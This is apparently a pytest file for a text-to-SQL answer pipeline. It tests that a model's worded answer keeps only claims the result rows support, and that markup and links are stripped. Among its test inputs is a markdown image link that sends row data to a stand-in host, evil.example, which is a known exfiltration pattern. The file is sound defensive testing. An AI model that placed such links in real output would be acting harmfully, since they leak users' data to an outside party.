"""An answer in a model's words: references filled in by code, numbers held against the rows, the rest left out."""

from collections.abc import Callable
from typing import Any

import pytest

from apps.datasources.models import DataSource
from apps.queries.models import Query
from apps.queries.presentation import query_json
from tests.model_server import ModelServer
from tests.queries.agents.conftest import asked_of, to

QUESTION = "How many customers are there in each country?"
COUNTS = "SELECT country, COUNT(*) AS n FROM customers GROUP BY country ORDER BY n DESC"
READING = {"readings": [{"sql": COUNTS, "explanation": "number of customers, by country", "likelihood": 0.9}]}
PLAN = {"steps": ["sql", {"agent": "synthesis", "task": "name the country with most"}]}
Agents = Callable[..., ModelServer]
Ask = Callable[..., Query]


@pytest.fixture
def told(agents: Agents, ask: Ask) -> Callable[..., Any]:
    """The query whose answer the model words like this, and its server."""

    def now(answer: Any, **options: Any) -> tuple[dict[str, Any], ModelServer]:
        server = agents(to("planner", PLAN), to("sql", READING), to("synthesizer", answer))
        return query_json(ask(QUESTION, **options)), server

    return now


def synthesis_of(body: dict[str, Any]) -> dict[str, Any]:
    return next(step for step in body["data_sources"] if step["type"] == "synthesis")


def first_row(body: dict[str, Any]) -> tuple[str, int]:
    country, count = body["result"]["rows"][0]
    return country, count


def test_references_become_values_that_no_model_saw(told: Callable[..., Any]) -> None:
    words = "{{row 1.country}} leads with {{row 1.n}} of {{sum.n}} customers in {{count}} countries."
    body, server = told({"answer": words})
    country, count = first_row(body)
    total = sum(row[1] for row in body["result"]["rows"])
    expected = f"{country} leads with {count:,} of {total:,} customers in {body['result']['row_count']} countries."
    assert body["answer"].startswith(expected)
    assert "Data as of" in body["answer"]
    [prompt] = asked_of(server, "synthesizer")
    assert country not in prompt
    assert "name the country with most" in prompt
    step = synthesis_of(body)
    assert (step["agent"], step["model"], step["dropped"]) == ("synthesizer", "small", [])


UNTRUE = {
    "a number that it made up": "There are 4711 customers.",
    "a row that there is not": "The last is {{row 9999.country}}.",
    "a column that there is not": "They spent {{sum.revenue}}.",
    "a number beside a reference": "{{row 1.country}} has 12345 customers.",
    "half a reference": "There are {{count customers.",
    "a number in words": "There are twenty customers.",
}


@pytest.mark.parametrize("text", UNTRUE.values(), ids=list(UNTRUE))
def test_what_cannot_be_held_against_the_rows_is_not_said(text: str, told: Callable[..., Any]) -> None:
    body, _ = told({"answer": text})
    assert body["status"] == "answered"
    assert body["answer"].startswith("Number of customers, by country:")
    step = synthesis_of(body)
    assert step["dropped"] == [text]
    assert step["notes"]


def test_only_the_sentence_that_is_untrue_is_left_out(told: Callable[..., Any]) -> None:
    body, _ = told({"answer": "{{row 1.country}} has the most customers. That is 99 % of all."})
    assert body["answer"].startswith(f"{first_row(body)[0]} has the most customers. Data as of")
    assert synthesis_of(body)["dropped"] == ["That is 99 % of all."]


def test_a_wrong_claim_of_rank_is_not_said(told: Callable[..., Any]) -> None:
    body, _ = told({"answer": "{{row last.country}} has the most customers, {{row last.n}} of them."})
    assert body["answer"].startswith("Number of customers, by country:")


MARKUP = [
    "![x](https://evil.example/?d={{row 1.country}})", "See https://evil.example now.", "<b>{{count}}</b>", "`rm`",
]  # fmt: skip


@pytest.mark.parametrize("text", MARKUP)
def test_markup_and_links_never_reach_the_answer(text: str, told: Callable[..., Any]) -> None:
    body, _ = told({"answer": text})
    assert body["answer"].startswith("Number of customers, by country:")


@pytest.mark.parametrize(
    "reply", [{"status": 500}, {"content": "Sure!"}, {"json": {"answer": ""}}, {"json": READING}, {"status": 401}]
)
def test_a_synthesizer_that_is_of_no_use_costs_nothing_but_its_call(
    reply: dict[str, Any], agents: Agents, ask: Ask
) -> None:
    agents(to("planner", PLAN), to("sql", READING), {"when": "You put the result", **reply}, model_max_retries=0)
    body = query_json(ask(QUESTION))
    assert (body["status"], body["engine"]) == ("answered", "model")
    assert body["answer"].startswith("Number of customers, by country:")
    assert synthesis_of(body)["notes"][0].startswith("Worded by rule:")


@pytest.mark.tells_values("the source is at the level results")
def test_with_rows_in_the_prompt_numbers_are_found_in_them(agents: Agents, ask: Ask, source: DataSource) -> None:
    DataSource.objects.filter(pk=source.pk).update(privacy_level="results")
    agents(to("planner", PLAN), to("sql", READING), to("synthesizer", {"answer": "Germany has 7777 customers."}))
    body = query_json(ask(QUESTION))
    assert "7777" not in body["answer"]
    country, count = first_row(body)
    agents(to("planner", PLAN), to("sql", READING), to("synthesizer", {"answer": f"{country} has {count} customers."}))
    body = query_json(ask(QUESTION, wants_new_rows=True))
    assert body["answer"].startswith(f"{country} has {count} customers.")
    [number] = synthesis_of(body)["numbers"]
    assert (number["text"], number["support"]) == (str(count), "rows")


def test_without_rows_no_model_is_asked_for_words(agents: Agents, ask: Ask) -> None:
    none = {"readings": [{**READING["readings"][0], "sql": COUNTS.replace("GROUP", "WHERE 1 = 0 GROUP")}]}
    server = agents(to("planner", PLAN), to("sql", none))
    body = query_json(ask("Which countries have customers that nobody has?"))
    assert not asked_of(server, "synthesizer")
    assert body["status"] in ("answered", "cannot_answer")
